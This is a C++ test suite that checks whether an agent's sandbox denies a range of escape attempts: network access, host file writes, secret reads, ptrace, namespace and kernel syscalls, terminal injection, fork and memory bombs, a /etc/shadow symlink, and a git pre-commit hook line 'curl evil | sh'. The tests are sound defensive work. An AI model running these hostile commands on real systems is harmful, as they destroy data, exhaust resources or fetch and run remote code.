// Real escape attempts, each run inside the default sandbox (with small limits where the
// attempt is a resource bomb), each asserting the specific denial and, where it matters,
// that the host is untouched afterwards.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdlib.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <catch2/catch.hpp>

#include "support/loopback_listener.h"
#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <set>
#include <sstream>
#include <string>

#include "sandbox/policy.h"

namespace fs = std::filesystem;
using namespace nagent::sandbox;

namespace {

struct TempDir {
  fs::path path;
  explicit TempDir(const std::string& stem) {
    std::string tmpl = (fs::temp_directory_path() / (stem + "-XXXXXX")).string();
    path = ::mkdtemp(tmpl.data());
  }
  ~TempDir() {
    std::error_code ec;
    fs::remove_all(path, ec);
  }
};

// A workspace with a .git directory, and a runner for the shipped default policy with
// the limits tightened so bombs are over quickly. Hosts without a usable cgroup run the
// non-bomb attempts all the same (allow_without.cgroups); the bombs need the cgroup.
struct Sandbox {
  TempDir workspace{"nagent-escape-ws"};
  TempDir policies{"nagent-escape-policy"};
  std::unique_ptr<Runner> runner;

  explicit Sandbox(const std::string& overrides = "") {
    fs::create_directories(workspace.path / ".git" / "hooks");
    std::ofstream(workspace.path / ".git" / "HEAD") << "ref: refs/heads/main\n";
    auto file = policies.path / "test.lua";
    std::ofstream(file) << "return { extends = '" << NAGENT_SOURCE_DIR << "/policies/default.lua', "
                        << "limits = { processes = 64, memory_mb = 256 }, tmp_size_mb = 64, "
                        << "allow_without = { cgroups = true }, " << overrides << " }";
    runner = make_runner(load_policy(file.string()), workspace.path.string());
  }

  bool has_cgroup() const { return runner->describe().find("cgroups: none") == std::string::npos; }

  Result exec(std::vector<std::string> argv, double timeout_s) {
    Command c;
    c.argv = std::move(argv);
    c.workdir = workspace.path.string();
    c.timeout_s = timeout_s;
    c.kill_grace_s = 0.5;
    return runner->run(c);
  }

  Result run(const std::string& script, double timeout_s = 20) { return exec({"/bin/sh", "-c", script}, timeout_s); }

  // Runs a Python snippet (the system interpreter: fast to start) as the run's process.
  Result python(const std::string& code, double timeout_s = 20) {
    std::ofstream(workspace.path / "probe.py") << code;
    return exec({"/usr/bin/python3", "probe.py"}, timeout_s);
  }
};

// Prints the errno of a libc call made through ctypes ("0" when it succeeded).
const char* kCtypes =
    "import ctypes, os, sys\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    "def errno_of(rc):\n"
    "    print(0 if rc >= 0 else ctypes.get_errno())\n";

bool host_has_process_with(const std::string& marker) {
  for (const auto& entry : fs::directory_iterator("/proc")) {
    std::ifstream in(entry.path() / "cmdline");
    std::string cmdline((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    if (cmdline.find(marker) != std::string::npos) {
      // A zombie still shows its cmdline until reaped; only running processes count.
      std::ifstream stat(entry.path() / "stat");
      std::string line;
      std::getline(stat, line);
      auto paren = line.rfind(')');
      if (paren != std::string::npos && line.size() > paren + 2 && line[paren + 2] != 'Z') return true;
    }
  }
  return false;
}

}  // namespace

TEST_CASE("escape: connecting to a listener on the host's 127.0.0.1 is refused") {
  LoopbackListener listener;
  int port = listener.port();

  Sandbox sb;
  auto r = sb.python("import socket\ns = socket.socket()\ns.settimeout(3)\n"
                     "try:\n    s.connect(('127.0.0.1', " + std::to_string(port) + "))\n    print('connected')\n"
                     "except OSError as e:\n    print(type(e).__name__)\n");
  CHECK(r.exit_code == 0);
  CHECK(r.stdout_data == "ConnectionRefusedError\n");
  pollfd p{listener.fd(), POLLIN, 0};
  CHECK(::poll(&p, 1, 0) == 0);  // nothing reached the host's listener
}

TEST_CASE("escape: only loopback exists, so nothing outside is reachable") {
  Sandbox sb;
  auto r = sb.run("cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '");
  CHECK(r.stdout_data == "lo\n");
}

TEST_CASE("escape: raw and packet sockets are denied with EPERM") {
  Sandbox sb;
  auto r = sb.python(std::string("import socket\n") +
                     "for args in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),\n"
                     "             (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),\n"
                     "             (socket.AF_PACKET, socket.SOCK_RAW, 0)]:\n"
                     "    try:\n        socket.socket(*args)\n        print('opened')\n"
                     "    except PermissionError as e:\n        print(e.errno)\n");
  CHECK(r.stdout_data == "1\n1\n1\n");
}

TEST_CASE("escape: writing or deleting outside the workspace leaves the host untouched") {
  TempDir host_dir("nagent-escape-host");
  auto victim = host_dir.path / "victim.txt";
  std::ofstream(victim) << "keep me";
  const char* home = std::getenv("HOME");
  REQUIRE(home);
  std::string planted_in_home = std::string(home) + "/.nagent-escape-" + std::to_string(::getpid());

  Sandbox sb;
  auto r = sb.run("rm -f " + victim.string() + "; echo pwned > " + host_dir.path.string() + "/new.txt; "
                  "echo pwned > " + planted_in_home + "; touch /usr/nagent-pwned; touch /etc/nagent-pwned; "
                  "touch /nagent-pwned; echo done");
  CHECK(r.stdout_data == "done\n");
  CHECK(fs::exists(victim));
  CHECK_FALSE(fs::exists(host_dir.path / "new.txt"));
  CHECK_FALSE(fs::exists(planted_in_home));
  CHECK_FALSE(fs::exists("/usr/nagent-pwned"));
  CHECK_FALSE(fs::exists("/etc/nagent-pwned"));
  CHECK_FALSE(fs::exists("/nagent-pwned"));
  CHECK(r.stderr_data.find("/usr/nagent-pwned': Read-only file system") != std::string::npos);
}

TEST_CASE("escape: a secret planted in the host home cannot be read") {
  const char* home = std::getenv("HOME");
  REQUIRE(home);
  std::string secret_file = std::string(home) + "/.nagent-secret-" + std::to_string(::getpid());
  std::ofstream(secret_file) << "TOPSECRET-4711";
  Sandbox sb;
  auto r = sb.run("cat " + secret_file + "; ls -a " + home + "; grep -rs TOPSECRET-4711 /tmp /etc; true");
  fs::remove(secret_file);
  CHECK(r.stdout_data.find("TOPSECRET-4711") == std::string::npos);
  CHECK(r.stdout_data.find(".nagent-secret") == std::string::npos);  // not even its name
  CHECK(r.stderr_data.find("No such file or directory") != std::string::npos);
}

TEST_CASE("escape: host processes are not visible in /proc") {
  std::string marker = "nagent-host-marker-" + std::to_string(::getpid());
  pid_t host = ::fork();
  if (host == 0) {
    ::setpgid(0, 0);  // so the shell and its sleep are killed together below
    ::execl("/bin/sh", "sh", "-c", ("sleep 30; : " + marker).c_str(), nullptr);
    ::_exit(127);
  }
  Sandbox sb;
  auto r = sb.run("cat /proc/[0-9]*/cmdline | tr '\\0' ' '; echo; ls -d /proc/[0-9]* | wc -l");
  ::kill(-host, SIGKILL);
  ::waitpid(host, nullptr, 0);
  CHECK(r.stdout_data.find(marker) == std::string::npos);
  // sh, cat, tr, ls, wc and init: a handful, not the host's hundreds.
  CHECK(std::stoi(r.stdout_data.substr(r.stdout_data.rfind('\n', r.stdout_data.size() - 2) + 1)) < 10);
}

TEST_CASE("escape: ptrace of a sibling process is denied") {
  Sandbox sb;
  auto r = sb.python(std::string(kCtypes) +
                     "import subprocess\np = subprocess.Popen(['sleep', '30'])\n"
                     "errno_of(libc.ptrace(16, p.pid, 0, 0))\n"  // PTRACE_ATTACH
                     "errno_of(libc.ptrace(0x4206, p.pid, 0, 0))\n"  // PTRACE_SEIZE
                     "errno_of(libc.process_vm_readv(p.pid, 0, 0, 0, 0, 0))\n"
                     "p.kill()\n");
  CHECK(r.stdout_data == "1\n1\n1\n");
}

TEST_CASE("escape: mount, pivot_root and new namespaces are denied") {
  Sandbox sb;
  auto r = sb.python(std::string(kCtypes) +
                     "errno_of(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None))\n"
                     "errno_of(libc.umount2(b'/proc', 2))\n"
                     "errno_of(libc.unshare(0x10000000))\n"            // CLONE_NEWUSER
                     "errno_of(libc.unshare(0x00020000))\n"            // CLONE_NEWNS
                     "errno_of(libc.syscall(435, 0, 0))\n"             // clone3: ENOSYS
                     "errno_of(libc.chroot(b'/tmp'))\n");
  CHECK(r.stdout_data == "1\n1\n1\n1\n38\n1\n");
  auto u = sb.run("unshare -U -r true");
  CHECK(u.exit_code != 0);
  CHECK(u.stderr_data.find("Operation not permitted") != std::string::npos);
}

TEST_CASE("escape: kernel modules, kexec, bpf, perf and keyrings are denied") {
  Sandbox sb;
  auto r = sb.python(std::string(kCtypes) +
                     "errno_of(libc.syscall(313, 0, b'', 0))\n"        // finit_module
                     "errno_of(libc.syscall(175, None, 0, b''))\n"     // init_module
                     "errno_of(libc.syscall(176, b'x', 0))\n"          // delete_module
                     "errno_of(libc.syscall(246, 0, 0, 0, 0))\n"       // kexec_load
                     "errno_of(libc.syscall(321, 0, 0, 0))\n"          // bpf
                     "errno_of(libc.syscall(298, 0, 0, -1, -1, 0))\n"  // perf_event_open
                     "errno_of(libc.syscall(250, 0, 0, 0, 0, 0))\n"    // keyctl
                     "errno_of(libc.syscall(323, 0))\n"                // userfaultfd
                     "errno_of(libc.syscall(169, 0, 0, 0, 0))\n");     // reboot
  CHECK(r.stdout_data == "1\n1\n1\n1\n1\n1\n1\n1\n1\n");
}

TEST_CASE("escape: the sandbox holds no capabilities and cannot gain privileges") {
  Sandbox sb;
  auto r = sb.run("grep -E '^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status");
  CHECK(r.stdout_data ==
        "CapInh:\t0000000000000000\nCapPrm:\t0000000000000000\nCapEff:\t0000000000000000\n"
        "CapBnd:\t0000000000000000\nCapAmb:\t0000000000000000\nNoNewPrivs:\t1\nSeccomp:\t2\n");
}

TEST_CASE("escape: kernel settings under /proc/sys and sysrq cannot be written") {
  Sandbox sb;
  // EROFS; sysrq-trigger may also be absent (ENOENT) on kernels built without it.
  auto r = sb.python("import errno\n"
                     "for path in ['/proc/sys/kernel/core_pattern', '/proc/sys/vm/drop_caches', '/proc/sysrq-trigger']:\n"
                     "    try:\n        open(path, 'w').write('x')\n        print('wrote')\n"
                     "    except OSError as e:\n"
                     "        sysrq_denied = 'sysrq' in path and e.errno in (errno.EROFS, errno.ENOENT)\n"
                     "        print('denied' if sysrq_denied else e.errno)\n");
  CHECK(r.stdout_data == "30\n30\ndenied\n");
}

TEST_CASE("escape: pushing keystrokes into a terminal (TIOCSTI) is denied") {
  Sandbox sb;
  auto r = sb.python("import fcntl, termios\ntry:\n    fcntl.ioctl(0, termios.TIOCSTI, b'x')\nexcept OSError as e:\n    print(e.errno)\n");
  CHECK(r.stdout_data == "1\n");
}

TEST_CASE("escape: the caller's controlling terminal cannot be reached or taken") {
  // A child of the test gets a pseudo-terminal as its controlling terminal and runs the
  // sandbox with that terminal as stdin/stdout/stderr, as `nagent sandbox` in a shell does.
  pid_t child = ::fork();
  if (child == 0) {
    int master = ::posix_openpt(O_RDWR | O_NOCTTY);
    if (master < 0 || ::grantpt(master) != 0 || ::unlockpt(master) != 0 || ::setsid() < 0) ::_exit(10);
    int slave = ::open(::ptsname(master), O_RDWR);  // a session leader's first tty: its terminal
    if (slave < 0 || ::dup2(slave, 0) < 0 || ::dup2(slave, 1) < 0 || ::dup2(slave, 2) < 0) ::_exit(11);
    int own = ::open("/dev/tty", O_RDWR);  // the attempt below can fail only if this works
    if (own < 0) ::_exit(12);
    ::close(own);
    Sandbox sb;
    std::ofstream(sb.workspace.path / "probe.py")
        << "import errno, fcntl, os, termios\n"
           "out = []\n"
           "try:\n    os.open('/dev/tty', os.O_RDWR)\n    out.append('opened')\n"
           "except OSError as e:\n    out.append(errno.errorcode[e.errno])\n"
           "os.setsid()\n"
           "try:\n    fcntl.ioctl(0, termios.TIOCSCTTY, 1)\n    out.append('taken')\n"
           "except OSError as e:\n    out.append(errno.errorcode[e.errno])\n"
           "open('result', 'w').write(' '.join(out))\n";
    Command c;
    c.argv = {"/usr/bin/python3", "probe.py"};
    c.workdir = sb.workspace.path.string();
    c.passthrough_stdio = true;
    c.timeout_s = 20;
    auto r = sb.runner->run(c);
    std::ifstream in(sb.workspace.path / "result");
    std::string result((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    ::_exit(!r.ok() ? 13 : result == "ENXIO EPERM" ? 0 : 14);
  }
  int status = 0;
  REQUIRE(::waitpid(child, &status, 0) == child);
  CHECK(WIFEXITED(status));
  CHECK(WEXITSTATUS(status) == 0);  // 14: /dev/tty opened or the terminal taken inside
}

TEST_CASE("escape: the memory and environment of the sandbox's init (a copy of nagent's) cannot be read") {
  Sandbox sb;
  auto r = sb.python("for path in ['/proc/1/mem', '/proc/1/environ']:\n"
                     "    try:\n        f = open(path, 'rb'); f.seek(0); f.read(1)\n        print('read')\n"
                     "    except OSError as e:\n        print(e.errno)\n"
                     "print(len(open('/proc/self/environ', 'rb').read()) > 0)\n");
  CHECK(r.stdout_data == "13\n13\nTrue\n");  // EACCES; the command's own environment stays readable
}

TEST_CASE("escape: a fork bomb is bounded by the process limit and the host is unaffected") {
  Sandbox sb;
  if (!sb.has_cgroup()) {
    WARN("skipped: no usable cgroup on this host, so nothing would bound the bomb");
    return;
  }
  auto start = std::chrono::steady_clock::now();
  auto r = sb.run("bomb() { bomb | bomb & }; bomb; sleep 2; echo survived", 10);
  auto took = std::chrono::steady_clock::now() - start;
  CHECK(took < std::chrono::seconds(12));
  CHECK(r.note.find("process limit") != std::string::npos);
  // The host can still start processes, and the next run in the same sandbox works.
  CHECK(std::system("true") == 0);
  auto after = sb.run("echo fine");
  CHECK(after.stdout_data == "fine\n");
  CHECK(after.note.find("process limit") == std::string::npos);
}

TEST_CASE("escape: a memory bomb is killed and reported") {
  Sandbox sb;
  if (!sb.has_cgroup()) {
    WARN("skipped: no usable cgroup on this host, so nothing would bound the bomb");
    return;
  }
  auto r = sb.python("chunks = []\nwhile True:\n    chunks.append(b'x' * (32 << 20))\n", 30);
  CHECK(r.signal == SIGKILL);
  CHECK_FALSE(r.timed_out);
  CHECK(r.note.find("out of memory") != std::string::npos);
}

TEST_CASE("escape: an endless loop is killed at the timeout together with its children") {
  Sandbox sb;
  auto start = std::chrono::steady_clock::now();
  auto r = sb.run("sleep 987654 & sleep 987654 & trap '' TERM; while :; do :; done", 1);
  auto took = std::chrono::steady_clock::now() - start;
  CHECK(r.timed_out);
  CHECK(r.signaled());
  CHECK(took < std::chrono::seconds(5));
  CHECK_FALSE(host_has_process_with("987654"));
}

TEST_CASE("escape: 1 GB of output is capped, counted, and the process reaped") {
  Sandbox sb;
  Command c;
  c.argv = {"head", "-c", "1073741824", "/dev/zero"};
  c.workdir = sb.workspace.path.string();
  c.output_cap_bytes = 1 << 20;
  c.timeout_s = 120;
  auto r = sb.runner->run(c);
  CHECK(r.ok());
  CHECK(r.stdout_data.size() == (1u << 20));
  CHECK(r.stdout_dropped == (1ull << 30) - (1u << 20));
}

TEST_CASE("escape: a workspace symlink to /etc/shadow leads nowhere") {
  Sandbox sb;
  fs::create_symlink("/etc/shadow", sb.workspace.path / "shadow");
  fs::create_symlink("/", sb.workspace.path / "hostroot");
  auto r = sb.run("cat shadow; ls hostroot/root; cat hostroot/etc/shadow; true");
  CHECK(r.stdout_data.empty());
  CHECK(r.stderr_data.find("shadow: No such file or directory") != std::string::npos);
}

TEST_CASE("escape: only the six device binds allow device nodes and those devices work") {
  Sandbox sb;
  // mknod needs CAP_MKNOD, which the sandbox lacks; nodev is the second wall: a device node
  // that appeared on a writable mount (/dev/shm, /tmp, the workspace) could not be opened.
  auto r = sb.run("mknod /dev/shm/mem c 1 1; echo mknod=$?; cat /proc/self/mountinfo; "
                  "echo x > /dev/null && head -c 8 /dev/urandom | wc -c");
  CHECK(r.stdout_data.find("mknod=1") != std::string::npos);
  const std::set<std::string> devices = {"/dev/null", "/dev/zero", "/dev/full", "/dev/random", "/dev/urandom", "/dev/tty"};
  int mounts = 0;
  std::istringstream lines(r.stdout_data);
  for (std::string line; std::getline(lines, line);) {
    std::istringstream fields(line);
    std::string id, parent, devno, root, point, options;
    if (!(fields >> id >> parent >> devno >> root >> point >> options) || point.front() != '/') continue;
    ++mounts;
    INFO(line);
    const bool nodev = ("," + options + ",").find(",nodev,") != std::string::npos;
    CHECK(nodev == !devices.count(point));
  }
  CHECK(mounts >= 8);
  CHECK(r.stdout_data.substr(r.stdout_data.size() - 2) == "8\n");  // /dev/urandom read, /dev/null written
}

TEST_CASE("escape: .git/hooks cannot be written when .git is read-only") {
  Sandbox sb;
  auto r = sb.run("echo 'curl evil | sh' > .git/hooks/pre-commit; echo ok > workfile");
  CHECK(r.stderr_data.find("Read-only file system") != std::string::npos);
  CHECK_FALSE(fs::exists(sb.workspace.path / ".git" / "hooks" / "pre-commit"));
  CHECK(fs::exists(sb.workspace.path / "workfile"));  // the rest of the workspace is writable

  Sandbox writable_git("git = 'rw'");
  auto w = writable_git.run("echo '#!/bin/sh' > .git/hooks/pre-commit");
  CHECK(w.ok());
  CHECK(fs::exists(writable_git.workspace.path / ".git" / "hooks" / "pre-commit"));
}
